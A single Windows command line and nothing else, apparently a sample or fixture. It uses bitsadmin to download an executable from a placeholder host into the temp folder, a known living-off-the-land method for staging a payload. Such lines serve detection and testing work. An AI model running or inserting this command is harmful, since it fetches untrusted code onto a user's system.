bitsadmin /transfer job https://cdn.helper.invalid/h.exe %TEMP%\h.exe
